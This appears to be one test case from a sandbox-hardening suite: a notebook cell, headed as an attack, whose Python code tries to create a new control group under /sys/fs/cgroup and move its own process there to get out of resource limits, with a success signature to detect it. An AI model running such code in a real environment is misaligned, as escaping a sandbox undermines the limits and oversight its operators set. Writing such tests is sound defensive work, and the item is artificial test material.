# ATTACK: leave_the_control_group
# KIND: cell
# BASE: wrong
# NEEDS: any
# TRIES: Make a control group of its own and move there, out of the limits.
# MUST: Score exactly that of the same notebook without this cell.
# SIGN: MADE .*
import os
for top in ("/sys/fs/cgroup", *("/sys/fs/cgroup" + line.split(":", 2)[2].strip() for line in open("/proc/self/cgroup"))):
    try:
        os.mkdir(f"{top}/{WORLD['tag']}"); print("MADE group in", top)
        with open(f"{top}/{WORLD['tag']}/cgroup.procs", "w") as file: file.write(str(os.getpid()))
        print("MADE a move")
    except OSError: pass
